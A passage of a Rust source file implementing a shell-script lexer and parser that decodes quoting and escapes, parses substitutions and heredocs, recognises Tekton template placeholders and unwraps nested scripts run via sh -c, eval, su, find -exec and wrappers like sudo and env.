            (Some(b'\n'), _) => self.pos += 2,
            (Some(b'\r'), Some(b'\n')) => self.pos += 3,
            (Some(_), _) => {
                let len = self.char_len_at(start + 1);
                let escaped = self.slice(start + 1..start + 1 + len);
                word.text.push_decoded(escaped, start..start + 1 + len);
                word.plain = false;
                self.pos = start + 1 + len;
            }
        }
    }

    fn lex_single_quoted(&mut self, word: &mut Word) {
        let open = self.pos;
        let content_start = open + 1;
        let mut close = content_start;
        while self.byte(close).is_some_and(|c| c != b'\'') {
            close += 1;
        }
        word.text.push_verbatim(self.slice(content_start..close), content_start);
        word.plain = false;
        self.pos = if close < self.end { close + 1 } else { close };
    }

    /// The inside of `"…"`, from just after the opening quote.
    fn lex_dquoted_body(&mut self, word: &mut Word) {
        while let Some(c) = self.peek() {
            match c {
                b'"' => {
                    self.pos += 1;
                    return;
                }
                b'\\' => {
                    let start = self.pos;
                    match self.byte(start + 1) {
                        Some(escaped @ (b'$' | b'`' | b'"' | b'\\')) => {
                            word.text.push_char(char::from(escaped), start..start + 2);
                            self.pos += 2;
                        }
                        Some(b'\n') => self.pos += 2,
                        _ => {
                            // Other backslashes are literal inside double quotes.
                            word.text.push_verbatim("\\", start);
                            self.pos += 1;
                        }
                    }
                }
                b'$' => self.lex_dollar(word, true),
                b'`' => self.lex_backtick(word, true),
                _ => self.lex_run(word, ends_dquoted_run),
            }
        }
    }

    /// `$…` at the current position: ANSI-C or locale quotes, substitutions, arithmetic,
    /// parameter expansions. Expansions are kept literally.
    fn lex_dollar(&mut self, word: &mut Word, in_dquotes: bool) {
        let start = self.pos;
        word.plain = false;
        match self.byte(start + 1) {
            Some(b'\'') if !in_dquotes => {
                self.pos += 2;
                self.lex_ansi_c(word);
            }
            Some(b'"') if !in_dquotes => {
                self.pos += 2;
                self.lex_dquoted_body(word);
            }
            Some(b'(') => {
                let arithmetic = if self.byte(start + 2) == Some(b'(') { self.try_arith_at(start + 1) } else { None };
                if let Some(end) = self.template_reference_end(start + 2) {
                    self.pos = end;
                    word.text.push_verbatim(self.slice(start..end), start);
                } else if let Some(had_subst) = arithmetic {
                    if had_subst {
                        word.push_subst(self.slice(start..self.pos), start);
                    } else {
                        word.text.push_verbatim(self.slice(start..self.pos), start);
                    }
                } else {
                    self.pos = start + 1;
                    self.parse_subst_paren(SubstitutionKind::Command);
                    word.push_subst(self.slice(start..self.pos), start);
                }
            }
            Some(b'{') => {
                self.pos = start + 2;
                if self.scan_parameter() {
                    word.push_subst(self.slice(start..self.pos), start);
                } else {
                    word.text.push_verbatim(self.slice(start..self.pos), start);
                }
            }
            _ => {
                word.text.push_verbatim("$", start);
                self.pos += 1;
            }
        }
    }

    /// The inside of `$'…'`, from just after the opening quote.
    fn lex_ansi_c(&mut self, word: &mut Word) {
        while let Some(c) = self.peek() {
            match c {
                b'\'' => {
                    self.pos += 1;
                    return;
                }
                b'\\' => {
                    let start = self.pos;
                    match self.ansi_c_escape(start) {
                        (Some(decoded), len) => {
                            word.text.push_char(decoded, start..start + len);
                            self.pos = start + len;
                        }
                        (None, len) if len > 1 => self.pos = start + len, // `\0`: dropped
                        (None, _) => {
                            // Unknown escape: the backslash stays, the next char follows.
                            word.text.push_verbatim("\\", start);
                            self.pos = start + 1;
                        }
                    }
                }
                _ => self.lex_run(word, |c| c == b'\'' || c == b'\\'),
            }
        }
    }

    /// Decodes the escape at `start` (a backslash) of a `$'…'` string: the character (if
    /// any) and the number of source bytes it takes. `(None, 1)` keeps the backslash.
    fn ansi_c_escape(&self, start: usize) -> (Option<char>, usize) {
        let Some(letter) = self.byte(start + 1) else {
            return (None, 1);
        };
        let simple = match letter {
            b'a' => Some('\u{7}'),
            b'b' => Some('\u{8}'),
            b'e' | b'E' => Some('\u{1b}'),
            b'f' => Some('\u{c}'),
            b'n' => Some('\n'),
            b'r' => Some('\r'),
            b't' => Some('\t'),
            b'v' => Some('\u{b}'),
            b'\\' | b'\'' | b'"' | b'?' => Some(char::from(letter)),
            _ => None,
        };
        if simple.is_some() {
            return (simple, 2);
        }
        let (value, digits, prefix) = match letter {
            b'0'..=b'7' => {
                let (value, digits) = self.take_digits(start + 1, 3, 8);
                (value, digits, 1)
            }
            b'x' => {
                let (value, digits) = self.take_digits(start + 2, 2, 16);
                (value, digits, 2)
            }
            b'u' => {
                let (value, digits) = self.take_digits(start + 2, 4, 16);
                (value, digits, 2)
            }
            b'U' => {
                let (value, digits) = self.take_digits(start + 2, 8, 16);
                (value, digits, 2)
            }
            b'c' => match self.byte(start + 2) {
                Some(control) if control.is_ascii() => {
                    return (Some(char::from(control & 0x1f)), 3);
                }
                _ => return (None, 1),
            },
            _ => return (None, 1),
        };
        if digits == 0 {
            return (None, 1);
        }
        let len = prefix + digits;
        if value == 0 {
            return (None, len);
        }
        // `\x`/octal produce raw bytes; a lone byte above 0x7f is not text on its own.
        let single_byte = matches!(letter, b'0'..=b'7' | b'x');
        let decoded = if single_byte && value > 0x7f {
            char::REPLACEMENT_CHARACTER
        } else {
            char::from_u32(value).unwrap_or(char::REPLACEMENT_CHARACTER)
        };
        (Some(decoded), len)
    }

    fn take_digits(&self, from: usize, max: usize, radix: u32) -> (u32, usize) {
        let mut value: u32 = 0;
        let mut count = 0;
        while count < max {
            let Some(digit) = self.byte(from + count).and_then(|c| char::from(c).to_digit(radix)) else {
                break;
            };
            value = value.saturating_mul(radix).saturating_add(digit);
            count += 1;
        }
        (value & if radix == 8 { 0xff } else { u32::MAX }, count)
    }

    /// A backquoted substitution: its content is unescaped and parsed as a script of
    /// its own, then mapped back.
    fn lex_backtick(&mut self, word: &mut Word, in_dquotes: bool) {
        let start = self.pos;
        self.pos += 1;
        let mut content = MappedText::new();
        while let Some(c) = self.peek() {
            match c {
                b'`' => {
                    self.pos += 1;
                    break;
                }
                b'\\' => {
                    let at = self.pos;
                    match self.byte(at + 1) {
                        Some(escaped @ (b'$' | b'`' | b'\\')) => {
                            content.push_char(char::from(escaped), at..at + 2);
                            self.pos += 2;
                        }
                        Some(b'"') if in_dquotes => {
                            content.push_char('"', at..at + 2);
                            self.pos += 2;
                        }
                        _ => {
                            content.push_verbatim("\\", at);
                            self.pos += 1;
                        }
                    }
                }
                _ => {
                    let run_start = self.pos;
                    let mut run_end = run_start;
                    while self.byte(run_end).is_some_and(|c| c != b'`' && c != b'\\') {
                        run_end += 1;
                    }
                    content.push_verbatim(self.slice(run_start..run_end), run_start);
                    self.pos = run_end;
                }
            }
        }
        word.push_subst(self.slice(start..self.pos), start);
        let parent = self.cur_cmd;
        self.parse_separately(content, Merge::Substitution(parent));
    }

    /// `$(…)`, `<(…)`, `>(…)` with the current position at `(`: the content is parsed in
    /// place, so its positions are already right.
    fn parse_subst_paren(&mut self, kind: SubstitutionKind) {
        self.pos += 1;
        if !self.deeper() {
            self.skip_opaque(Frame::Paren);
            return;
        }
        let saved = (self.cur_cmd, self.subst, self.ctx);
        self.subst = Some((self.cur_cmd, kind));
        self.cur_cmd = None;
        self.ctx = self.fresh_ctx();
        self.paren_level += 1;
        self.parse_list(Stop::TOP);
        self.paren_level -= 1;
        if self.peek() == Some(b')') {
            self.pos += 1;
        }
        (self.cur_cmd, self.subst, self.ctx) = saved;
        self.leave();
    }

    /// Tekton (and KFP-on-Tekton) replace `$(params.x)`, `$(results.y.path)`,
    /// `$(context.taskRun.name)` … before the shell runs: such a `$(…)` is a template
    /// placeholder, not a command named `params.x`. Returns the end of the placeholder
    /// whose content starts at `content`, if it is one.
    fn template_reference_end(&self, content: usize) -> Option<usize> {
        const ROOTS: &[&str] = &[
            "params",
            "results",
            "workspaces",
            "context",
            "inputs",
            "outputs",
            "resources",
            "steps",
            "step",
            "tasks",
            "credentials",
            "artifacts",
        ];
        let mut end = content;
        while self.byte(end).is_some_and(|c| {
            c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b'[' | b']' | b'\'' | b'"' | b'*')
        }) {
            end += 1;
        }
        if self.byte(end) != Some(b')') {
            return None;
        }
        let reference = self.slice(content..end);
        let root_end = reference.find(['.', '['])?;
        ROOTS.contains(&reference.get(..root_end)?).then_some(end + 1)
    }

    /// Tries `((…))` with the first `(` at `open`. On success moves past it, parses the
    /// substitutions in it (`$(( $(curl …) ))` runs curl) and tells whether there were
    /// any; on failure (it was `( (…) … )`) leaves the position alone.
    fn try_arith_at(&mut self, open: usize) -> Option<bool> {
        let mut index = open + 2;
        let mut depth = 0usize;
        while let Some(c) = self.byte(index) {
            match c {
                b'(' => depth += 1,
                b')' if depth > 0 => depth -= 1,
                b')' => {
                    if self.byte(index + 1) != Some(b')') {
                        return None;
                    }
                    let found = self.scan_expansions(open + 2..index, self.cur_cmd);
                    self.pos = index + 2;
                    return Some(!found.is_empty());
                }
                b'\\' => index += 1,
                b'\'' | b'"' | b'`' => {
                    index += 1;
                    while let Some(d) = self.byte(index) {
                        if d == c {
                            break;
                        }
                        if d == b'\\' && c != b'\'' {
                            index += 1;
                        }
                        index += 1;
                    }
                }
                _ => {}
            }
            index += 1;
        }
        None
    }

    /// The inside of `${…}`, from just after `${`. Kept literally, but substitutions in
    /// it (`${x:-$(curl …)}`) are parsed. Returns whether there were any.
    fn scan_parameter(&mut self) -> bool {
        if !self.deeper() {
            self.skip_opaque(Frame::Brace);
            return false;
        }
        let mut had_subst = false;
        let mut depth = 1usize;
        while let Some(c) = self.peek() {
            match c {
                b'}' => {
                    self.pos += 1;
                    depth -= 1;
                    if depth == 0 {
                        break;
                    }
                }
                b'$' if self.byte(self.pos + 1) == Some(b'{') => {
                    self.pos += 2;
                    depth += 1;
                }
                b'$' | b'`' => {
                    let mut scratch = Word::new(self.pos);
                    if c == b'$' {
                        self.lex_dollar(&mut scratch, true);
                    } else {
                        self.lex_backtick(&mut scratch, true);
                    }
                    had_subst |= !scratch.substs.is_empty();
                }
                b'"' => {
                    self.pos += 1;
                    let mut scratch = Word::new(self.pos);
                    self.lex_dquoted_body(&mut scratch);
                    had_subst |= !scratch.substs.is_empty();
                }
                b'\'' => {
                    let mut scratch = Word::new(self.pos);
                    self.lex_single_quoted(&mut scratch);
                }
                b'\\' => self.pos = (self.pos + 2).min(self.end),
                _ => self.pos += 1,
            }
        }
        self.leave();
        had_subst
    }

    /// `NAME=(…)` in bash: the parentheses belong to the word.
    fn at_array_value(&self, word: &Word) -> bool {
        let raw = self.slice(word.start..self.pos);
        !raw.is_empty() && split_assignment(raw).is_some_and(|(_, value)| value == raw.len())
    }

    fn lex_array(&mut self, word: &mut Word) {
        let start = self.pos;
        self.pos += 1;
        let mut had_subst = false;
        if self.deeper() {
            loop {
                self.skip_linebreaks();
                match self.peek() {
                    None => break,
                    Some(b')') => {
                        self.pos += 1;
                        break;
                    }
                    Some(_) => match self.lex_word() {
                        Some(element) => had_subst |= !element.substs.is_empty(),
                        None => self.pos += self.char_len_at(self.pos),
                    },
                }
            }
            self.leave();
        } else {
            self.skip_opaque(Frame::Paren);
        }
        if had_subst {
            word.push_subst(self.slice(start..self.pos), start);
        } else {
            word.text.push_verbatim(self.slice(start..self.pos), start);
        }
        word.plain = false;
    }

    /// Skips the rest of a construct without parsing it (beyond [`MAX_DEPTH`]): an
    /// explicit stack instead of recursion, so any nesting costs only heap and time
    /// linear in its length.
    fn skip_opaque(&mut self, first: Frame) {
        let mut stack = vec![first];
        while let Some(&top) = stack.last() {
            let Some(c) = self.peek() else { return };
            self.pos += 1;
            let next = self.peek();
            match (top, c) {
                (_, b'\\') => self.pos = (self.pos + 1).min(self.end),
                (Frame::Backtick, b'`') | (Frame::DQuote, b'"') => {
                    stack.pop();
                }
                (Frame::Backtick, _) => {}
                (Frame::Paren, b')') | (Frame::Brace, b'}') => {
                    stack.pop();
                }
                (Frame::Paren, b'(') => stack.push(Frame::Paren),
                (_, b'$') if next == Some(b'(') => {
                    self.pos += 1;
                    stack.push(Frame::Paren);
                }
                (_, b'$') if next == Some(b'{') => {
                    self.pos += 1;
                    stack.push(Frame::Brace);
                }
                (_, b'`') => stack.push(Frame::Backtick),
                (Frame::DQuote, _) => {}
                (_, b'"') => stack.push(Frame::DQuote),
                (_, b'\'') => {
                    while self.peek().is_some_and(|c| c != b'\'') {
                        self.pos += 1;
                    }
                    self.pos = (self.pos + 1).min(self.end);
                }
                _ => {}
            }
        }
    }

    // -- heredocs ----------------------------------------------------------------------

    fn read_heredocs(&mut self) {
        let pending = std::mem::take(&mut self.pending);
        for heredoc in pending {
            self.read_heredoc(heredoc);
        }
    }

    /// Reads one heredoc body starting at the current position (a line start).
    fn read_heredoc(&mut self, heredoc: PendingHeredoc) {
        let body_start = self.pos;
        // Source ranges of the body's lines, after tab stripping, with their newline.
        let mut lines: Vec<Range<usize>> = Vec::new();
        let mut line_start = self.pos;
        let (body_end, resume) = loop {
            if line_start >= self.end {
                break (self.end, self.end);
            }
            let newline = self
                .bytes
                .get(line_start..self.end)
                .and_then(|rest| rest.iter().position(|&c| c == b'\n'))
                .map(|offset| line_start + offset);
            let line_end = newline.unwrap_or(self.end);
            let next_line = newline.map_or(self.end, |n| n + 1);
            let mut content_start = line_start;
            if heredoc.strip_tabs {
                while self.byte(content_start) == Some(b'\t') && content_start < line_end {
                    content_start += 1;
                }
            }
            let mut content_end = line_end;
            if content_end > content_start && self.byte(content_end - 1) == Some(b'\r') {
                content_end -= 1;
            }
            if self.slice(content_start..content_end) == heredoc.delimiter {
                break (line_start, next_line);
            }
            lines.push(content_start..next_line);
            line_start = next_line;
        };
        let mut body = MappedText::new();
        for line in &lines {
            body.push_verbatim(self.slice(line.clone()), line.start);
        }
        let mut substs = Vec::new();
        if !heredoc.quoted && body_start < body_end {
            for range in self.scan_expansions(body_start..body_end, Some(heredoc.owner)) {
                let start = decoded_offset(&lines, range.start);
                let end = decoded_offset(&lines, range.end);
                if start < end {
                    substs.push(start..end);
                }
            }
        }
        self.pos = resume;
        if let Some(redirect) =
            self.commands.get_mut(heredoc.owner).and_then(|command| command.redirects.get_mut(heredoc.redirect))
        {
            redirect.target = body.clone();
        }
        if let Some(slot) =
            self.meta.get_mut(heredoc.owner).and_then(|meta| meta.redirect_substs.get_mut(heredoc.redirect))
        {
            slot.clone_from(&substs);
        }
        let to_shell = self.commands.get(heredoc.owner).is_some_and(reads_script_from_stdin);
        if to_shell && matches!(heredoc.fd, None | Some(0)) {
            self.nest(heredoc.owner, masked(&body, &substs), NestedVia::HereDoc);
        }
    }

    /// Parses the substitutions in `range`, text where only `$…`, backquotes and
    /// backslashes are special (an unquoted heredoc body, an arithmetic expression), on
    /// behalf of command `owner`. Returns their source ranges.
    fn scan_expansions(&mut self, range: Range<usize>, owner: Option<usize>) -> Vec<Range<usize>> {
        if !self.deeper() {
            return Vec::new();
        }
        let saved = (self.pos, self.end, self.cur_cmd);
        self.pos = range.start;
        self.end = range.end.min(self.end);
        self.cur_cmd = owner;
        let mut found = Vec::new();
        while let Some(c) = self.peek() {
            match c {
                b'\\' => self.pos = (self.pos + 2).min(self.end),
                b'$' | b'`' => {
                    let start = self.pos;
                    let mut scratch = Word::new(start);
                    if c == b'$' {
                        self.lex_dollar(&mut scratch, true);
                    } else {
                        self.lex_backtick(&mut scratch, true);
                    }
                    if !scratch.substs.is_empty() {
                        found.push(start..self.pos);
                    }
                    if self.pos == start {
                        self.pos += 1;
                    }
                }
                _ => self.pos += 1,
            }
        }
        (self.pos, self.end, self.cur_cmd) = saved;
        self.leave();
        found
    }

    // -- nested scripts ----------------------------------------------------------------

    /// Called when a simple command is complete: finds its program and parses the
    /// scripts it runs.
    fn finish_command(&mut self, index: usize) {
        let Some(command) = self.commands.get_mut(index) else {
            return;
        };
        command.program = find_program(&command.words);
        let Some(program) = command.program else {
            return;
        };
        let (Some(command), Some(meta)) = (self.commands.get(index), self.meta.get(index)) else {
            return;
        };
        let no_substs: &[Range<usize>] = &[];
        let word_substs = |i: usize| meta.word_substs.get(i).map_or(no_substs, Vec::as_slice);
        let name = basename(command.words.get(program).map_or("", MappedText::as_str));
        let mut jobs: Vec<(MappedText, NestedVia)> = Vec::new();
        let mut finds: Vec<Range<usize>> = Vec::new();
        if is_shell(name) {
            match shell_input(&command.words, program) {
                ShellInput::Script(script) => {
                    if let Some(word) = command.words.get(script) {
                        jobs.push((masked(word, word_substs(script)), NestedVia::ShellC));
                    }
                }
                ShellInput::Stdin => {
                    for (i, redirect) in command.redirects.iter().enumerate() {
                        if redirect.op == RedirectOp::HereString && matches!(redirect.fd, None | Some(0)) {
                            let substs = meta.redirect_substs.get(i).map_or(no_substs, Vec::as_slice);
                            jobs.push((masked(&redirect.target, substs), NestedVia::HereString));
                        }
                    }
                }
                ShellInput::Other => {}
            }
        } else if name == "eval" {
            let mut joined = MappedText::new();
            for i in program + 1..command.words.len() {
                let Some(word) = command.words.get(i) else {
                    break;
                };
                if !joined.is_empty() {
                    let gap_start = joined.source_span().end;
                    let gap_end = word.source_span().start.max(gap_start);
                    joined.push_decoded(" ", gap_start..gap_end);
                }
                joined.append(&masked(word, word_substs(i)));
            }
            jobs.push((joined, NestedVia::Eval));
        } else if matches!(name, "su" | "runuser") {
            if let Some((i, from)) = su_script(&command.words, program)
                && let Some(word) = command.words.get(i)
            {
                let substs: Vec<Range<usize>> =
                    word_substs(i).iter().filter(|r| r.start >= from).map(|r| r.start - from..r.end - from).collect();
                jobs.push((masked(&word.slice(from..word.len()), &substs), NestedVia::Su));
            }
        } else if name == "find" {
            finds = find_exec_ranges(&command.words, program);
        }
        for (text, via) in jobs {
            self.nest(index, text, via);
        }
        for range in finds {
            self.push_find_exec(index, range);
        }
    }

    /// The command run by `find … -exec CMD… ;`, as a command of its own.
    fn push_find_exec(&mut self, find: usize, words: Range<usize>) {
        let Some(source) = self.commands.get(find) else {
            return;
        };
        let Some(source_words) = source.words.get(words.clone()).map(<[_]>::to_vec) else {
            return;
        };
        let cost = source_words.iter().map(MappedText::len).sum::<usize>();
        if cost > self.budget {
            self.truncated = true;
            return;
        }
        if !self.deeper() {
            return;
        }
        self.budget -= cost;
        let command = Command {
            words: source_words,
            nested_in: Some(find),
            nested_via: Some(NestedVia::FindExec),
            ..Command::default()
        };
        let word_substs =
            self.meta.get(find).and_then(|meta| meta.word_substs.get(words)).map(<[_]>::to_vec).unwrap_or_default();
        let ctx = self.fresh_ctx();
        self.commands.push(command);
        self.meta.push(Meta { ctx, word_substs, ..Meta::default() });
        self.finish_command(self.commands.len() - 1);
        self.leave();
    }

    /// Parses `text` (whose source is the current script) as a script run by `parent`.
    fn nest(&mut self, parent: usize, text: MappedText, via: NestedVia) {
        self.parse_separately(text, Merge::Nested(parent, via));
    }

    /// Parses `text` (decoded from this parser's source) with a parser of its own and
    /// merges its commands. The sub-parser is given the map of `text` straight to the
    /// top-level script, so every command is remapped exactly once, however deep.
    fn parse_separately(&mut self, text: MappedText, how: Merge) {
        if text.is_empty() {
            return;
        }
        if self.depth >= MAX_DEPTH || text.len() > self.budget {
            self.truncated = true;
            return;
        }
        self.budget -= text.len();
        let to_top = match self.to_top {
            Some(outer) => text.remap(outer),
            None => text,
        };
        let mut sub = Parser::new(to_top.as_str(), self.depth + 1);
        sub.to_top = Some(&to_top);
        sub.budget = self.budget;
        sub.parse_list(Stop::TOP);
        self.budget = sub.budget;
        self.truncated |= sub.truncated;
        self.merge(sub, &to_top, how);
    }

    /// Appends the commands of a parser that ran over `map.as_str()`, re-expressing
    /// their positions in the top-level script (`map` leads there) and their links in
    /// this list.
    fn merge(&mut self, sub: Parser<'_>, map: &MappedText, how: Merge) {
        let base = self.commands.len();
        let ctx_base = self.next_ctx;
        self.next_ctx += sub.next_ctx;
        let shift = |link: Option<usize>| link.map(|index| index + base);
        for (mut command, mut meta) in sub.commands.into_iter().zip(sub.meta) {
            if !meta.absolute {
                for word in &mut command.words {
                    *word = word.remap(map);
                }
                for assignment in &mut command.assignments {
                    assignment.name = assignment.name.remap(map);
                    assignment.value = assignment.value.remap(map);
                }
                for redirect in &mut command.redirects {
                    redirect.target = redirect.target.remap(map);
                    redirect.op_span = map.source_range(redirect.op_span.clone());
                }
                meta.absolute = true;
            }
            command.pipe_from = shift(command.pipe_from);
            command.in_substitution = shift(command.in_substitution);
            command.nested_in = shift(command.nested_in);
            match how {
                Merge::Substitution(parent) => {
                    if command.substitution.is_none() && command.nested_in.is_none() {
                        command.in_substitution = parent;
                        command.substitution = Some(SubstitutionKind::Command);
                    }
                }
                Merge::Nested(parent, via) => {
                    if command.nested_in.is_none() {
                        command.nested_in = Some(parent);
                        command.nested_via = Some(via);
                    }
                }
            }
            meta.ctx += ctx_base;
            self.commands.push(command);
            self.meta.push(meta);
        }
    }
}

// ---------------------------------------------------------------------------------------
// Helpers on finished words
// ---------------------------------------------------------------------------------------

/// `NAME=`, `NAME+=`, `NAME[…]=` at the start of `raw`: the end of the name (with its
/// subscript) and the start of the value.
fn split_assignment(raw: &str) -> Option<(usize, usize)> {
    let bytes = raw.as_bytes();
    let first = *bytes.first()?;
    if !(first.is_ascii_alphabetic() || first == b'_') {
        return None;
    }
    let mut index = 1;
    while bytes.get(index).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_') {
        index += 1;
    }
    if bytes.get(index) == Some(&b'[') {
        let close = bytes.get(index..)?.iter().position(|&c| c == b']')?;
        index += close + 1;
    }
    let name_end = index;
    if bytes.get(index) == Some(&b'+') {
        index += 1;
    }
    (bytes.get(index) == Some(&b'=')).then_some((name_end, index + 1))
}

/// `word` with its substitutions replaced by [`SUBST_PLACEHOLDER`] (see there).
fn masked(word: &MappedText, substs: &[Range<usize>]) -> MappedText {
    if substs.is_empty() {
        return word.clone();
    }
    let mut out = MappedText::new();
    let mut at = 0;
    for range in substs {
        if range.start < at || range.start > range.end || range.end > word.len() {
            continue;
        }
        out.append(&word.slice(at..range.start));
        // One piece per character: a decoded piece as long as its source would be
        // mapped byte for byte, which could point into the middle of a character.
        let source = word.source_range(range.clone());
        for ch in SUBST_PLACEHOLDER.chars() {
            out.push_char(ch, source.clone());
        }
        at = range.end;
    }
    out.append(&word.slice(at..word.len()));
    out
}

/// The offset in a heredoc body (made of `lines`) of source offset `source`.
fn decoded_offset(lines: &[Range<usize>], source: usize) -> usize {
    let mut decoded = 0;
    for line in lines {
        if source < line.start {
            break;
        }
        if source < line.end {
            return decoded + (source - line.start);
        }
        decoded += line.end - line.start;
    }
    decoded
}

pub fn is_shell(name: &str) -> bool {
    matches!(name, "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "mksh" | "yash" | "rbash" | "posh" | "fish")
}

/// Where the shell run by `words[program]` takes its script from.
fn shell_input(words: &[MappedText], program: usize) -> ShellInput {
    let mut index = program + 1;
    let mut dash_c = false;
    let mut dash_s = false;
    while let Some(word) = words.get(index) {
        let word = word.as_str();
        if word == "--" || word == "-" {
            index += 1;
            break;
        }
        if let Some(long) = word.strip_prefix("--") {
            index += if matches!(long, "rcfile" | "init-file") { 2 } else { 1 };
            continue;
        }
        let Some(flags) = word.strip_prefix('-').or_else(|| word.strip_prefix('+')) else {
            break;
        };
        if flags.is_empty() {
            break;
        }
        index += 1;
        for flag in flags.chars() {
            match flag {
                'c' => dash_c = true,
                's' => dash_s = true,
                // `-o pipefail`, `-O extglob`: the option name is the next word.
                'o' | 'O' => index += 1,
                _ => {}
            }
        }
    }
    if dash_c {
        return if index < words.len() { ShellInput::Script(index) } else { ShellInput::Other };
    }
    if dash_s || index >= words.len() { ShellInput::Stdin } else { ShellInput::Other }
}

fn reads_script_from_stdin(command: &Command) -> bool {
    match command.program {
        Some(program) => {
            command.program_name().is_some_and(is_shell) && shell_input(&command.words, program) == ShellInput::Stdin
        }
        None => false,
    }
}

/// `su [opts] -c SCRIPT`, `--command=SCRIPT`, `-cSCRIPT`: the word index and the offset
/// of the script in it.
fn su_script(words: &[MappedText], program: usize) -> Option<(usize, usize)> {
    let mut index = program + 1;
    while let Some(word) = words.get(index) {
        let text = word.as_str();
        if matches!(text, "--command" | "--session-command" | "-c") {
            return words.get(index + 1).map(|_| (index + 1, 0));
        }
        for prefix in ["--command=", "--session-command="] {
            if text.starts_with(prefix) {
                return Some((index, prefix.len()));
            }
        }
        if let Some(flags) = text.strip_prefix('-')
            && !flags.starts_with('-')
        {
            for (offset, flag) in flags.char_indices() {
                match flag {
                    'c' => {
                        let rest = 1 + offset + 1;
                        if rest < text.len() {
                            return Some((index, rest));
                        }
                        return words.get(index + 1).map(|_| (index + 1, 0));
                    }
                    // These take an argument: the rest of the word or the next word.
                    's' | 'g' | 'G' | 'w' => {
                        if 1 + offset + 1 == text.len() {
                            index += 1;
                        }
                        break;
                    }
                    _ => {}
                }
            }
        }
        index += 1;
    }
    None
}

/// The word ranges of the commands run by `find … -exec CMD… ;` (or `+`).
fn find_exec_ranges(words: &[MappedText], program: usize) -> Vec<Range<usize>> {
    let mut ranges = Vec::new();
    let mut index = program + 1;
    while let Some(word) = words.get(index) {
        if matches!(word.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
            let start = index + 1;
            let mut end = start;
            while words.get(end).is_some_and(|w| !matches!(w.as_str(), ";" | "+")) {
                end += 1;
            }
            if end > start {
                ranges.push(start..end);
            }
            index = end + 1;
        } else {
            index += 1;
        }
    }
    ranges
}

/// Options of a wrapper command: which short options take an argument, which long ones.
struct WrapperOptions {
    short_with_arg: &'static str,
    long_with_arg: &'static [&'static str],
}

/// Skips the options starting at `index`; returns the index of the first operand.
fn skip_options<W: AsRef<str>>(words: &[W], mut index: usize, options: &WrapperOptions) -> usize {
    while let Some(word) = words.get(index) {
        let text = word.as_ref();
        if text == "--" {
            return index + 1;
        }
        if let Some(long) = text.strip_prefix("--") {
            let takes_arg = !long.contains('=') && options.long_with_arg.contains(&long);
            index += if takes_arg { 2 } else { 1 };
            continue;
        }
        let Some(flags) = text.strip_prefix('-') else {
            return index;
        };
        if flags.is_empty() {
            return index;
        }
        index += 1;
        for (offset, flag) in flags.char_indices() {
            if options.short_with_arg.contains(flag) {
                // `-u root` takes the next word, `-uroot` does not.
                if offset + flag.len_utf8() == flags.len() {
                    index += 1;
                }
                break;
            }
        }
    }
    index
}

/// Skips `NAME=value` words (as `env` and `sudo` accept them).
fn skip_env_assignments<W: AsRef<str>>(words: &[W], mut index: usize) -> usize {
    while words.get(index).is_some_and(|w| split_assignment(w.as_ref()).is_some() && !w.as_ref().starts_with('-')) {
        index += 1;
    }
    index
}

/// The index of the program really run, unwrapping wrappers (which may be stacked).
/// Generic over the word type: the parser's words and `analysis::Word`s.
pub fn find_program<W: AsRef<str>>(words: &[W]) -> Option<usize> {
    const NONE: WrapperOptions = WrapperOptions { short_with_arg: "", long_with_arg: &[] };
    let mut index = 0;
    loop {
        let name = basename(words.get(index)?.as_ref());
        let next = match name {
            "env" => {
                let options =
                    WrapperOptions { short_with_arg: "uCS", long_with_arg: &["unset", "chdir", "split-string"] };
                let mut next = skip_options(words, index + 1, &options);
                if words.get(next).is_some_and(|w| w.as_ref() == "-") {
                    next += 1; // `env -` is `env -i`
                }
                skip_env_assignments(words, next)
            }
            "sudo" => {
                let options = WrapperOptions {
                    short_with_arg: "ugpCDrtTURh",
                    long_with_arg: &[
                        "user",
                        "group",
                        "prompt",
                        "close-from",
                        "chdir",
                        "role",
                        "type",
                        "command-timeout",
                        "other-user",
                        "chroot",
                        "host",
                    ],
                };
                skip_env_assignments(words, skip_options(words, index + 1, &options))
            }
            "doas" => {
                let options = WrapperOptions { short_with_arg: "uC", long_with_arg: &[] };
                skip_options(words, index + 1, &options)
            }
            "timeout" => {
                let options = WrapperOptions { short_with_arg: "sk", long_with_arg: &["signal", "kill-after"] };
                // The duration comes before the program.
                skip_options(words, index + 1, &options) + 1
            }
            "nice" => {
                let options = WrapperOptions { short_with_arg: "n", long_with_arg: &["adjustment"] };
                skip_options(words, index + 1, &options)
            }
            "exec" => {
                let options = WrapperOptions { short_with_arg: "a", long_with_arg: &[] };
                skip_options(words, index + 1, &options)
            }
            "command" => {
                let flags = words.get(index + 1).map_or("", AsRef::as_ref);
                if flags.starts_with('-') && flags.contains(['v', 'V']) {
                    // `command -v pip` looks pip up; it does not run it.
                    return Some(index);
                }
                skip_options(words, index + 1, &NONE)
            }
            "time" => {
                let options = WrapperOptions { short_with_arg: "fo", long_with_arg: &["format", "output"] };
                skip_options(words, index + 1, &options)
            }
            "xargs" => {
                let options = WrapperOptions {
                    short_with_arg: "ILnPsdEa",
                    long_with_arg: &[
                        "max-args",
                        "max-lines",
                        "max-procs",
                        "max-chars",
                        "delimiter",
                        "arg-file",
                        "process-slot-var",
                    ],
                };
                skip_options(words, index + 1, &options)
            }
            "stdbuf" => {
                let options = WrapperOptions { short_with_arg: "ioe", long_with_arg: &["input", "output", "error"] };
                skip_options(words, index + 1, &options)
            }
            "chroot" => {
                let options = WrapperOptions { short_with_arg: "", long_with_arg: &["userspec", "groups"] };
                skip_options(words, index + 1, &options) + 1
            }
            "nohup" | "setsid" | "builtin" => skip_options(words, index + 1, &NONE),
            "busybox" if words.get(index + 1).is_some_and(|w| !w.as_ref().starts_with('-')) => index + 1,
            _ => return Some(index),
        };
        if next >= words.len() || next <= index {
            // A wrapper with nothing to run (`exec >log`, `env`) is the program itself.
            return Some(index);
        }
        index = next;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn programs(script: &Script) -> Vec<&str> {
        script.commands.iter().map(|c| c.program_name().unwrap_or("")).collect()
    }

    fn words(command: &Command) -> Vec<&str> {
        command.words.iter().map(MappedText::as_str).collect()
    }

    /// The first command running `program`, with its index.
    fn find_command<'s>(script: &'s Script, program: &str) -> (usize, &'s Command) {
        let found = script.commands.iter().enumerate().find(|(_, c)| c.program_name() == Some(program));
        found.unwrap_or_else(|| panic!("no command {program} in {:#?}", programs(script)))
